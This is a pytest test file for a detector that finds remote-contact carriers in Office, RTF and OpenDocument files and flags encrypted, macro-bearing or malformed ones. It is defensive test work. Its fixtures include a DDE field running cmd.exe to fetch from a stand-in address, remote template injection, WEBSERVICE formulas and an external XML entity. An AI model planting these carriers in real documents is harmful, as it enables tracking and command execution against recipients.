"""Office documents, carrier by carrier: what each contacts, when, and what is said of those that cannot be read."""

from __future__ import annotations

import random
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.observe.compound_file import compound_file
from tests.observe.office_documents import (
    STRICT,
    based,
    cells,
    drawing,
    file_moniker,
    flat_opendocument,
    flat_package,
    formula,
    hlink,
    link_object,
    old_object,
    old_sheet,
    old_slides,
    old_word,
    opendocument,
    packaged,
    record,
    rels,
    runs,
    sheet,
    supbook,
    url_moniker,
    word,
    zipped,
)
from tests.observe.office_samples import DOCUMENTS, FOLDER, samples

from tocsin.mail.outlook_msg import mail_of
from tocsin.model.attached import AttachedFile, FileReading
from tocsin.observe.beacons import office
from tocsin.observe.files import kinds
from tocsin.observe.files.allowance import MAX_BYTES, Allowance

URL = "https://192.0.2.7/x"
SHARE = r"\\files.press.example\share\x"


def look(document: str | bytes, name: str = "plan.docx", allowance: Allowance | None = None) -> FileReading:
    data = document.encode() if isinstance(document, str) else document
    kind = kinds.kind_of(data[: kinds.HEAD], name, "")
    return office.read(AttachedFile(data, name, "", kind, "2"), allowance or Allowance())


def urls(reading: FileReading) -> list[str]:
    return [reference.url for reference in reading.references]


def word_rels(kind: str, target: str = URL, part: str = "document") -> bytes:
    return word(**{f"word/_rels/{part}.xml.rels": rels((kind, target))})


def rtf(text: str) -> str:
    return "{\\rtf1\\ansi " + text + "}"


def rtf_object(inside: bytes, before: str = "\\objautlink\\objupdate") -> str:
    return rtf("{\\object" + before + "{\\*\\objdata " + inside.hex() + "}}")


LINK = old_object("OLE2Link", link_object(url_moniker(URL)))
MOVED_TYPES = (
    '<pkg:part pkg:name="/a"><pkg:binaryData>' + based(link_object(url_moniker(URL))) + "</pkg:binaryData>"
)
W2003 = '<?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
S2003 = (
    '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:x">'
)

# What it is; the document; what it contacts; when; whether something must be allowed first.
CARRIERS: list[tuple[str, str | bytes, str, str, bool]] = [
    ("attached-template", word_rels("attachedTemplate", part="settings"), URL, "attachment", False),
    ("picture", word_rels("image"), URL, "attachment", False),
    (
        "picture-strict",
        word(**{"word/_rels/a.rels": rels(("image", URL), types=STRICT)}),
        URL,
        "attachment",
        False,
    ),
    ("linked-object", word_rels("oleObject", URL + "!"), URL + "!", "attachment", False),
    ("mhtml-object", word_rels("oleObject", f"mhtml:{URL}!x-usc:{URL}"), URL, "attachment", False),
    ("frame", word_rels("frame", part="webSettings"), URL, "attachment", False),
    ("sub-document", word_rels("subDocument", SHARE), SHARE, "attachment", False),
    (
        "sub-document-file-url",
        word_rels("subDocument", "file:///" + SHARE),
        "file:///" + SHARE,
        "attachment",
        False,
    ),
    ("hyperlink", word_rels("hyperlink"), URL, "click", False),
    ("mail-merge", word_rels("mailMergeSource"), URL, "attachment", True),
    ("unknown-relationship", word_rels("novelty"), URL, "attachment", True),
    (
        "not-marked-external",
        word(**{"_rels/x.rels": rels(("image", URL), external=False)}),
        URL,
        "attachment",
        True,
    ),
    (
        "utf-16",
        word(**{"word/_rels/document.xml.rels": rels(("image", URL)).encode("utf-16")}),
        URL,
        "attachment",
        False,
    ),
    (
        "utf-16-without-mark",
        word(**{"word/_rels/document.xml.rels": rels(("image", URL)).encode("utf-16-be")}),
        URL,
        "attachment",
        False,
    ),
    (
        "entities",
        word_rels("image", "".join(f"&#x{ord(letter):x};" for letter in URL)),
        URL,
        "attachment",
        False,
    ),
    (
        "single-quotes-and-prefix",
        word(
            **{
                "a.rels": f"<p:Relationships><p:Relationship\nTargetMode = 'external' Type='x/image' Target='{URL}'/>"
            }
        ),
        URL,
        "attachment",
        False,
    ),
    ("malformed", word(**{"a.rels": rels(("image", URL)).replace("</", "<<&")}), URL, "attachment", False),
    ("odd-name", word(**{"data.png": rels(("image", URL))}), URL, "attachment", False),
    (
        "slides-picture",
        word(**{"ppt/slides/_rels/s.xml.rels": rels(("image", URL))}),
        URL,
        "attachment",
        True,
    ),
    ("slides-video", word(**{"ppt/slides/_rels/s.xml.rels": rels(("video", URL))}), URL, "attachment", True),
    ("includepicture", word(runs(f' INCLUDEPICTURE "{URL}" \\d ')), URL, "attachment", False),
    (
        "field-over-runs",
        word(runs("INCLU", 'DEPICTURE "https:', '//192.0.2.7/x" \\d')),
        URL,
        "attachment",
        False,
    ),
    ("field-simple", word(f"<w:fldSimple w:instr=' INCLUDEPICTURE \"{URL}\" '/>"), URL, "attachment", False),
    ("includetext", word(runs(f'INCLUDETEXT "{URL}"')), URL, "attachment", True),
    ("link-field", word(runs(f'LINK Word.Document.8 "{URL}" "" \\a \\p')), URL, "attachment", True),
    (
        "dde-field",
        word(runs(f"DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k fetch {URL}&quot;")),
        URL,
        "attachment",
        True,
    ),
    ("hyperlink-field", word(runs(f'HYPERLINK "{URL}" \\o "https://tip.example/"')), URL, "click", False),
    (
        "share-in-field",
        word(runs(f'INCLUDEPICTURE "{SHARE}"'.replace("\\", "\\\\"))),
        SHARE,
        "attachment",
        False,
    ),
    (
        "quoted-numbers",
        word(
            runs("INCLUDEPICTURE ").replace(
                "</w:instrText>",
                "</w:instrText></w:r>"
                + runs("QUOTE " + " ".join(str(ord(letter)) for letter in URL))
                + "<w:r>",
            )
        ),
        URL,
        "attachment",
        False,
    ),
    ("vml-picture", word(f'<v:shape><v:imagedata src="{URL}"/></v:shape>'), URL, "attachment", False),
    ("vml-link", word(f'<v:rect href="{URL}"/>'), URL, "click", False),
    ("comment-in-tag-soup", word(f'<!-- > --><v:fill src="{URL}"/>'), URL, "attachment", False),
    (
        "custom-ribbon",
        word(**{"customUI/customUI.xml": f'<customUI onLoad="{URL}"/>'}),
        URL,
        "attachment",
        True,
    ),
    (
        "active-x",
        word(**{"word/activeX/a.xml": f'<ax:ocx><ax:ocxPr ax:name="URL" ax:value="{URL}"/></ax:ocx>'}),
        URL,
        "attachment",
        True,
    ),
    (
        "embedded-link",
        word(**{"word/embeddings/o.bin": link_object(url_moniker(URL))}),
        URL,
        "attachment",
        False,
    ),
    (
        "local-header-only",
        word()[:-22] + zipped({"a.rels": rels(("image", URL))})[:-60],
        URL,
        "attachment",
        False,
    ),
    (
        "webservice",
        sheet(**{"xl/worksheets/s.xml": cells(f"_xlfn.WEBSERVICE(&quot;{URL}&quot;)")}),
        URL,
        "attachment",
        True,
    ),
    (
        "joined-formula",
        sheet(
            **{"xl/worksheets/s.xml": cells('WEBSERVICE("https"&amp;CHAR(58)&amp;"//192.0.2.7/x"&amp;A1)')}
        ),
        URL,
        "attachment",
        True,
    ),
    (
        "image-formula",
        sheet(**{"xl/worksheets/s.xml": cells(f'_xlfn.IMAGE("{URL}")')}),
        URL,
        "attachment",
        True,
    ),
    (
        "hyperlink-formula",
        sheet(**{"xl/worksheets/s.xml": cells(f'HYPERLINK("{URL}","shown")')}),
        URL,
        "click",
        False,
    ),
    (
        "defined-name",
        sheet(**{"xl/workbook.xml": f'<definedName name="a">WEBSERVICE("{URL}")</definedName>'}),
        URL,
        "attachment",
        True,
    ),
    (
        "web-query",
        sheet(**{"xl/connections.xml": f'<connection><webPr xml="1" url="{URL}"/></connection>'}),
        URL,
        "attachment",
        True,
    ),
    (
        "database",
        sheet(**{"xl/connections.xml": f'<dbPr connection="Provider=P;Data Source={URL};x=1"/>'}),
        URL + ";x=1",
        "attachment",
        True,
    ),
    (
        "external-workbook",
        sheet(**{"xl/externalLinks/_rels/e.xml.rels": rels(("externalLinkPath", URL))}),
        URL,
        "attachment",
        True,
    ),
    (
        "dde-in-sheet",
        sheet(**{"xl/externalLinks/e.xml": f"<ddeLink ddeService='cmd' ddeTopic='/c {URL} '/>"}),
        URL,
        "attachment",
        True,
    ),
    (
        "linked-picture-in-sheet",
        sheet(**{"xl/drawings/_rels/d.xml.rels": rels(("image", URL))}),
        URL,
        "attachment",
        False,
    ),
    ("flat-package", flat_package(rels(("attachedTemplate", URL))), URL, "attachment", False),
    ("flat-package-object", flat_package("") + MOVED_TYPES, URL, "attachment", False),
    ("word-2003", f'{W2003}<w:docPr><w:attachedTemplate w:val="{URL}"/></w:docPr>', URL, "attachment", False),
    ("word-2003-link", f'{W2003}<w:hlink w:dest="{URL}"/>', URL, "click", False),
    ("excel-2003", f'{S2003}<Cell ss:HRef="{URL}"/>', URL, "click", False),
    ("excel-2003-query", f"{S2003}<x:URLString>{URL}</x:URLString>", URL, "attachment", True),
    ("doc-field", old_word(f'a \x13 INCLUDEPICTURE "{URL}" \\d \x14\x15'), URL, "attachment", False),
    (
        "doc-wide-field",
        old_word(f'a \x13 INCLUDEPICTURE "{URL}" \\d \x14\x15', wide=True),
        URL,
        "attachment",
        False,
    ),
    ("doc-template", old_word("a", SHARE), SHARE, "attachment", False),
    (
        "doc-linked-picture",
        compound_file({"WordDocument": bytes(600), "Data": drawing(URL)}),
        URL,
        "attachment",
        False,
    ),
    (
        "doc-hyperlink",
        compound_file({"WordDocument": bytes(600), "Data": url_moniker(URL)}),
        URL,
        "click",
        False,
    ),
    ("ole-link", link_object(url_moniker(URL)), URL, "attachment", False),
    ("ole-file-link", link_object(file_moniker(SHARE)), SHARE, "attachment", False),
    ("ole-in-pool", compound_file({"ObjectPool/_1/\x01Ole": url_moniker(URL)}), URL, "attachment", False),
    ("xls-external", old_sheet(supbook("\x01\x05" + chr(len(URL)) + URL)), URL, "attachment", True),
    (
        "xls-share",
        old_sheet(supbook("\x01\x01@files.press.example\x03share\x03x")),
        SHARE,
        "attachment",
        True,
    ),
    ("xls-hyperlink", old_sheet(hlink(url_moniker(URL))), URL, "click", False),
    ("xls-formula", old_sheet(formula(URL)), URL, "attachment", True),
    ("xls-query", old_sheet(record(0x876, b"\1\0" + URL.encode())), URL, "attachment", True),
    ("ppt-hyperlink", old_slides(0x0FD7, URL), URL, "click", False),
    ("ppt-video", old_slides(0x1006, URL, 0), URL, "attachment", True),
    ("rtf-template", rtf(f"{{\\*\\template {URL}}}"), URL, "attachment", False),
    (
        "rtf-template-escaped",
        rtf("{\\*\\template " + "".join(f"\\'{ord(letter):02x}" for letter in URL) + "}"),
        URL,
        "attachment",
        False,
    ),
    (
        "rtf-template-unicode",
        rtf("{\\*\\template \\uc1" + "".join(f"\\u{ord(letter)}?" for letter in URL) + "}"),
        URL,
        "attachment",
        False,
    ),
    (
        "rtf-field",
        rtf(f'{{\\field{{\\*\\fldinst {{INCLUDE}}{{\\b PICTURE "{URL}" \\\\d}}}}{{\\fldrslt x}}}}'),
        URL,
        "attachment",
        False,
    ),
    ("rtf-link", rtf(f'{{\\field{{\\*\\fldinst HYPERLINK "{URL}"}}{{\\fldrslt x}}}}'), URL, "click", False),
    ("rtf-object", rtf_object(LINK), URL, "attachment", False),
    (
        "rtf-object-in-words",
        rtf(
            "{\\object\\objautlink{\\*\\objdata "
            + "\r\n\\x{\\*\\y 00}\t".join(LINK.hex()[at : at + 60] for at in range(0, len(LINK.hex()), 60))
            + "}}"
        ),
        URL,
        "attachment",
        False,
    ),
    (
        "rtf-object-binary",
        rtf("{\\object\\objupdate{\\*\\objdata\\bin" + f"{len(LINK)} ").encode() + LINK + b"}}}",
        URL,
        "attachment",
        False,
    ),
    (
        "rtf-linked-object",
        rtf_object(old_object("Word.Document.8", topic=URL), "\\objlink"),
        URL,
        "attachment",
        True,
    ),
    ("rtf-linked-picture", rtf(f"{{\\shp{{\\sp{{\\sn pibName}}{{\\sv {URL}}}}}}}"), URL, "attachment", False),
    ("rtf-shape-link", rtf(f"{{\\*\\hl{{\\hlfr x}}{{\\hlsrc {URL}}}}}"), URL, "click", False),
    ("rtf-sub-document", rtf(f"{{\\*\\filetbl{{\\file\\fid1\\fnetwork {URL}}}}}"), URL, "attachment", False),
    ("rtf-cut-off", rtf(f"{{\\*\\template {URL}")[:-1], URL, "attachment", False),
    ("rtf-false-binary", rtf(f"\\bin4000000 {{\\*\\template {URL}}}"), URL, "attachment", False),
    ("odf-picture", opendocument(f'<draw:image xlink:href="{URL}"/>'), URL, "attachment", False),
    (
        "odf-share",
        opendocument(f'<draw:image xlink:href="file:///{SHARE}"/>'),
        "file:///" + SHARE,
        "attachment",
        False,
    ),
    ("odf-section", opendocument(f'<text:section-source xlink:href="{URL}"/>'), URL, "attachment", True),
    ("odf-object", opendocument(f'<draw:object xlink:href="{URL}"/>'), URL, "attachment", True),
    ("odf-frame", opendocument(f'<draw:floating-frame xlink:href="{URL}"/>'), URL, "attachment", True),
    (
        "odf-cells",
        opendocument(f'<table:cell-range-source xlink:href="{URL}"/>', "spreadsheet"),
        URL,
        "attachment",
        True,
    ),
    (
        "odf-dde",
        opendocument(f'<office:dde-source office:dde-application="soffice" office:dde-topic="{URL}"/>'),
        URL,
        "attachment",
        True,
    ),
    ("odf-link", opendocument(f'<text:a xlink:href="{URL}">x</text:a>'), URL, "click", False),
    ("odf-form", opendocument(f'<form:form xlink:href="{URL}"/>'), URL, "click", False),
    (
        "odf-template",
        opendocument(**{"meta.xml": f'<meta:template xlink:href="{URL}"/>'}),
        URL,
        "attachment",
        True,
    ),
    (
        "odf-style",
        opendocument(**{"styles.xml": f'<style:background-image xlink:href="{URL}"/>'}),
        URL,
        "attachment",
        False,
    ),
    (
        "odf-event",
        opendocument(f'<script:event-listener script:event-name="dom:load" xlink:href="{URL}"/>'),
        URL,
        "attachment",
        True,
    ),
    (
        "odf-formula",
        opendocument(f"<table:table-cell table:formula='of:=WEBSERVICE(\"{URL}\")'/>"),
        URL,
        "attachment",
        True,
    ),
    ("odf-flat", flat_opendocument(f'<draw:image xlink:href="{URL}"/>'), URL, "attachment", False),
    (
        "odf-own-entity",
        '<!DOCTYPE x [<!ENTITY u "https://192.0.2.7">]>'
        + flat_opendocument('<draw:image xlink:href="&u;/x"/>'),
        URL,
        "attachment",
        False,
    ),
    (
        "odf-external-entity",
        f'<!DOCTYPE x [<!ENTITY u SYSTEM "{URL}">]>' + flat_opendocument("&u;"),
        URL,
        "attachment",
        True,
    ),
]


@pytest.mark.parametrize(
    ("document", "url", "trigger", "conditional"),
    [row[1:] for row in CARRIERS],
    ids=[row[0] for row in CARRIERS],
)
def test_carrier(document: str | bytes, url: str, trigger: str, conditional: bool) -> None:
    found = {
        (reference.url, reference.trigger, reference.conditional) for reference in look(document).references
    }
    assert found == {(url, trigger, conditional)}


HARMLESS: dict[str, str | bytes] = {
    "plain": word(),
    "own-part": word(**{"word/_rels/document.xml.rels": rels(("image", "media/a.png"), external=False)}),
    "mail-link": word_rels("hyperlink", "mailto:desk@press.example"),
    "bookmark": word_rels("hyperlink", "#chapter"),
    "own-disk": word_rels("attachedTemplate", "Normal.dotm"),
    "commented-out": word(**{"word/_rels/document.xml.rels": f"<!-- {rels(('image', URL))} -->"}),
    "address-in-text": word(f"<w:p><w:r><w:t>see {URL} or {SHARE}</w:t></w:r></w:p>"),
    "field-name-in-text": word(f'<w:p><w:r><w:t>INCLUDEPICTURE "{URL}"</w:t></w:r></w:p>'),
    "field-without-file": word(runs(" PAGE \\* MERGEFORMAT ")),
    "if-field": word(runs(f'IF 1 = 1 "{URL}"')),
    "namespaces": word('<w:p xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"/>'),
    "function-in-text": sheet(**{"xl/sharedStrings.xml": f'<si><t>WEBSERVICE("{URL}")</t></si>'}),
    "doc-text": old_word(f'see INCLUDEPICTURE "{URL}"'),
    "doc-page-field": old_word("\x13 PAGE \x141\x15"),
    "doc-named-picture": compound_file({"WordDocument": bytes(600), "Data": drawing("a.png", 0)}),
    "xls-own": old_sheet(record(0x1AE, struct.pack("<HH", 1, 0x0401))),
    "rtf-text": rtf(f"see {URL} {{\\*\\unknown {URL}}}"),
    "rtf-picture": rtf("{\\pict\\pngblip 89504e47}"),
    "odf-own-part": opendocument('<draw:image xlink:href="Pictures/a.png"/>'),
    "odf-text": opendocument(f"<text:p>{URL}</text:p>"),
}


@pytest.mark.parametrize("document", HARMLESS.values(), ids=HARMLESS)
def test_harmless(document: str | bytes) -> None:
    reading = look(document)
    assert reading.references == ()
    assert reading.not_evaluated == ()


SAID: dict[str, tuple[str | bytes, str]] = {
    "encrypted-package": (
        compound_file({"EncryptedPackage": bytes(9), "EncryptionInfo": bytes(9)}),
        "office-encrypted",
    ),
    "encrypted-doc": (old_word("x", encrypted=True), "office-encrypted"),
    "encrypted-xls": (old_sheet(record(0x2F, bytes(6)), hlink(url_moniker(URL))), "office-encrypted"),
    "encrypted-odt": (
        opendocument(**{"META-INF/manifest.xml": "<manifest:encryption-data manifest:checksum='x'/>"}),
        "office-encrypted",
    ),
    "macros": (word(**{"word/vbaProject.bin": compound_file({"VBA/dir": b"x"})}), "office-macros"),
    "macros-doc": (compound_file({"WordDocument": bytes(600), "Macros/VBA/dir": b"x"}), "office-macros"),
    "macro-sheet": (sheet(**{"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}), "office-macros"),
    "macros-odt": (
        opendocument(**{"Basic/Standard/M.xml": "<script:module script:name='M'>Sub Main</script:module>"}),
        "office-macros",
    ),
    "computed": (sheet(**{"xl/worksheets/s.xml": cells("WEBSERVICE(A1)")}), "office-formula-computed"),
    "damaged": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "office-unreadable"),
    "odd-method": (
        zipped({"[Content_Types].xml": "x", "a.rels": rels(("image", URL))}, zipfile.ZIP_BZIP2),
        "office-unreadable",
    ),
}


@pytest.mark.parametrize(("document", "code"), SAID.values(), ids=SAID)
def test_what_is_not_read_is_said(document: str | bytes, code: str) -> None:
    reading = look(document, "Plan\u202e of\nMay.docx")
    assert code in {defect.code for defect in reading.defects}
    assert any("“Plan_ of_May.docx”" in sentence for sentence in reading.not_evaluated)


def test_files_in_documents_are_handed_on() -> None:
    picture = b"\x89PNG\r\n\x1a\n" + bytes(20)
    inner = word_rels("image")
    package = compound_file(
        {"\x01Ole10Native": struct.pack("<I", 99) + packaged("page.html", b"<html></html>")}
    )
    page = b"<html><img src='https://p.example/'></html>"
    reading = look(
        word(
            **{
                "word/media/image1.png": picture,
                "word/embeddings/inner.docx": inner,
                "word/embeddings/oleObject1.bin": package,
                "word/afchunk.rtf": rtf(f"{{\\*\\template {URL}}}").encode(),
                "word/chunk.htm": page,
            }
        )
    )
    assert {member.name: member.data for member in reading.members} == {
        "word/media/image1.png": picture,
        "word/embeddings/inner.docx": inner,
        "page.html": b"<html></html>",
        "word/afchunk.rtf": rtf(f"{{\\*\\template {URL}}}").encode(),
        "word/chunk.htm": page,
    }


def test_outlook_items_are_handed_on() -> None:
    page = "<html><img src='https://p.example/'></html>"
    common = bytes.fromhex("0820060000000000c000000000000046")
    inner = "__attach_version1.0_#00000000/__substg1.0_3701000D/"
    streams = {
        "__properties_version1.0": b"",
        "__nameid_version1.0/__substg1.0_00020102": common,
        "__nameid_version1.0/__substg1.0_00030102": struct.pack("<IHH", 0x851F, 3 << 1, 7),
        "__substg1.0_1013001F": page.encode("utf-16-le"),
        "__substg1.0_8007001F": SHARE.encode("utf-16-le"),
        inner + "__substg1.0_10130102": b"<html><p>inner</p></html>",
        "__attach_version1.0_#00000001/__substg1.0_37010102": b"{\\rtf1 }",
        "__attach_version1.0_#00000001/__substg1.0_3707001F": "plan.rtf".encode("utf-16-le"),
        "__attach_version1.0_#00000002/__substg1.0_370D001F": SHARE.encode("utf-16-le"),
    }
    reading = look(compound_file(streams), "letter.msg")
    members = [(member.name, member.data.rstrip(b"\0")) for member in reading.members]
    assert ("body.html", page.encode()) in members
    assert ("body.html", b"<html><p>inner</p></html>") in members
    assert ("plan.rtf", b"{\\rtf1 }") in members
    assert any(name == "reminder.ics" and SHARE.encode() in data for name, data in members)
    assert [(found.url, found.trigger) for found in reading.references] == [(SHARE, "click")]


def test_hyperlink_base_makes_relative_links_absolute() -> None:
    base = "https://base.press.example/"
    parts = {"docProps/app.xml": f"<Properties><HyperlinkBase>{base}</HyperlinkBase></Properties>"}
    reading = look(word(**parts, **{"word/_rels/document.xml.rels": rels(("hyperlink", "a.html"))}))
    assert [(found.url, found.base) for found in reading.references] == [("a.html", base)]


def test_content_goes_before_the_name() -> None:
    assert urls(look(rtf(f"{{\\*\\template {URL}}}"), "plan.doc")) == [URL]
    assert urls(look(word_rels("image"), "plan.doc")) == [URL]
    assert urls(look(" \r\n" + rtf(f"{{\\*\\template {URL}}}"), "plan.doc")) == [URL]


def test_which_zips_and_xml_files_are_documents() -> None:
    def is_document(data: bytes, name: str) -> bool:
        kind = kinds.kind_of(data[: kinds.HEAD], name, "")
        return office.is_document(AttachedFile(data, name, "", kind, "2"))

    assert is_document(word(), "a.zip")
    assert is_document(opendocument(), "a.zip")
    assert is_document(flat_opendocument("").encode(), "a.xml")
    assert not is_document(zipped({"plan.docx": word()}, zipfile.ZIP_STORED), "a.zip")
    assert not is_document(zipped({"content.xml": "<x/>"}), "a.zip")
    assert not is_document(b"<?xml version='1.0'?><feed/>", "a.xml")


def test_a_member_that_expands_without_end_is_cut() -> None:
    bomb = "<w:document>" + " " * (40 << 20)
    allowance = Allowance()
    reading = look(
        word(**{"word/document.xml": bomb, "word/_rels/document.xml.rels": rels(("image", URL))}),
        "a",
        allowance,
    )
    assert urls(reading) == [URL]
    assert "office-too-large" in {defect.code for defect in reading.defects}
    assert allowance.bytes_left > MAX_BYTES - (20 << 20)


def test_many_addresses_are_cut() -> None:
    targets = [("hyperlink", f"https://a.example/{number}") for number in range(6_000)]
    reading = look(word(**{"word/_rels/document.xml.rels": rels(*targets)}))
    assert len(reading.references) == 5_000
    assert "too-many-beacons" in {defect.code for defect in reading.defects}


SEEDS = [row[1].encode() if isinstance(row[1], str) else row[1] for row in CARRIERS]


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(SEEDS), st.randoms(use_true_random=False), st.integers(0, 8))
def test_damaged_documents_never_raise(seed: bytes, chance: random.Random, changes: int) -> None:
    data = bytearray(seed)
    for _ in range(changes):
        at = chance.randrange(len(data))
        data[at : at + chance.randrange(5)] = chance.randbytes(chance.randrange(5))
    if chance.random() < 0.5:
        del data[chance.randrange(len(data)) :]
    reading = look(bytes(data), chance.choice(["a.docx", "a.doc", "a.rtf", "a.fodt", "a.xml", ""]))
    assert all(found.technique == "office" for found in reading.references)


@settings(max_examples=200, deadline=None)
@given(
    st.binary(max_size=300),
    st.sampled_from([b"", b"PK\x03\x04", b"{\\rtf1", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"<?xml "]),
)
def test_anything_is_read(tail: bytes, head: bytes) -> None:
    for reference in look(head + tail, "a.docx").references:
        reference.url.encode("utf-8", "surrogatepass")


TRAPS = {
    "open-groups": b"{\\rtf1" + b"{" * 200_000,
    "open-fields": b"{\\rtf1" + b"{\\field{\\*\\fldinst " * 20_000,
    "unclosed-tags": b"<office:document xmlns:o='urn:oasis:names:tc:opendocument:xmlns:office:1.0' "
    + b"<a b='" * 100_000,
    "unclosed-comments": b"<?mso-application " + b"<!--" * 200_000,
    "words": b"<?mso-application ?>" + b"<v:fill " + b"a" * 500_000,
    "local-headers": b"PK\x03\x04[Content_Types].xml" + b"PK\x03\x04" * 100_000,
    "same-member": b"",
}


@pytest.mark.parametrize("name", TRAPS)
def test_traps_end(name: str) -> None:
    trap = TRAPS[name]
    if name == "same-member":  # 5,000 entries of the directory share one member
        small = zipped({"[Content_Types].xml": "<a/>" * 50_000})
        start = small.index(b"PK\x01\x02")
        entry = small[start : small.index(b"PK\x05\x06")]
        end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 5_000, 5_000, len(entry) * 5_000, start, 0)
        trap = small[:start] + entry * 5_000 + end
    assert look(trap, "a.docx").references == ()


def test_samples_are_those_that_the_script_writes() -> None:
    written = samples()
    assert {path.name for path in FOLDER.glob("*.eml")} == {path.name for path in written}
    # The packed bytes of a zip differ between versions of zlib: only what else they hold is compared.
    for path, text in written.items():
        if b"PK\x03\x04" not in DOCUMENTS[path.stem][1]:
            assert path.read_text(encoding="ascii") == text


@pytest.mark.parametrize("shift", [0, 1, 30, 31, 63, 255, 65_535])
@pytest.mark.parametrize("at", [30, 32])
def test_sectors_of_impossible_sizes_are_said(shift: int, at: int) -> None:
    document = bytearray(compound_file({"WordDocument": bytes(4_096)}))
    document[at : at + 2] = struct.pack("<H", shift)
    reading = look(bytes(document), "plan.doc")
    assert not reading.references
    if at == 30:
        assert "office-unreadable" in [defect.code for defect in reading.defects]
    assert mail_of(bytes(document)) is None
